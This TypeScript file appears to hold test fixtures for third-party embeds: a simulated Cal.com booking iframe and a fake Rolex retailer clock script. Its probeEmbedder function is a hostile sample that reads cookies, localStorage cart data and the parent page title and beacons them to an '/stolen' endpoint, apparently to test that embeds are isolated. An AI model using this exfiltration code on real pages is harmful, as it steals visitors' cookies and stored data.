// Functions here are sent to browsers as text, so they must not use anything of this module's scope.

/** Exchanges the messages of Cal.com's embedded page with the embedding page. */
export function runBookingFrame(settings: { fails: boolean; namespace: string; language: string }): void {
  const say = (type: string, data: object) => {
    const { namespace } = settings;
    parent.postMessage({ originator: 'CAL', type, namespace, fullType: `CAL:${namespace}:${type}`, data }, '*');
  };
  const main = document.querySelector('.main');
  const booker = document.querySelector('#booker');
  if (!main || !booker) return;
  document.body.style.visibility = 'hidden';
  document.body.style.background = 'transparent';
  booker.innerHTML = `<p>Calendar (${settings.language})</p><button type="button">17</button>`;
  let before = 0;
  const measure = () => {
    const { height, marginTop, marginBottom } = getComputedStyle(main);
    const iframeHeight = Math.ceil(Number.parseFloat(height) + Number.parseFloat(marginTop + marginBottom) + 32);
    if (iframeHeight !== before) {
      say('__dimensionChanged', { iframeHeight, iframeWidth: innerWidth, isFirstTime: before === 0 });
    }
    before = iframeHeight;
  };
  addEventListener('message', ({ data }) => {
    if (data?.originator !== 'CAL') return;
    if (data.method === 'ui') document.documentElement.dataset.theme = data.arg.theme;
    if (data.method !== 'parentKnowsIframeReady') return;
    document.body.style.visibility = 'visible';
    say('linkReady', {});
  });
  booker.querySelector('button')?.addEventListener('click', () => {
    booker.insertAdjacentHTML('beforeend', '<div style="height:900px">9:00, 9:30, 10:00</div>');
    measure();
  });
  if (settings.fails) {
    say('linkFailed', { code: '500', msg: 'Problem loading the link', data: { url: location.href } });
    return;
  }
  say('__iframeReady', { isPrerendering: false });
  measure();
}

type Clock = { origin: string; key: string; steals: boolean };

/** The brand's clock script as a page uses it; a hostile one first tries to read first-party data. */
export function makeClockScript({ origin, key, steals }: Clock): string {
  return `${steals ? `(${probeEmbedder})(${JSON.stringify(origin)});` : ''}
    window.RolexRetailerClock = function () {
      this.getRetailerClock = function (config) {
        var place = document.getElementById('rolex-retailer-clock');
        if (!place) throw new Error('There is no place for the clock');
        if (config.dealerAPIKey !== ${JSON.stringify(key)}) throw new Error('Unknown dealer');
        if (config.colour !== 'gold') throw new Error('Unknown colour');
        place.innerHTML = '<iframe id="rolex_retailer" title="Clock" style="width:150px;height:70px;border:0" src="' +
          '${origin}/retailers/clock/?colour=' + config.colour + '&apiKey=' + config.dealerAPIKey + '&lang=' +
          config.lang + '"></iframe>';
      };
    };`;
}

function probeEmbedder(origin: string): void {
  const tries: Record<string, () => unknown> = {
    storage: () => localStorage.getItem('int-cart') ?? 'empty',
    cookies: () => document.cookie || 'none',
    page: () => parent.document.title,
  };
  for (const [what, look] of Object.entries(tries)) {
    let found: string;
    try {
      found = String(look());
    } catch (error) {
      found = error instanceof Error ? error.name : 'refused';
    }
    new Image().src = `${origin}/stolen?${new URLSearchParams({ what, found })}`;
  }
}
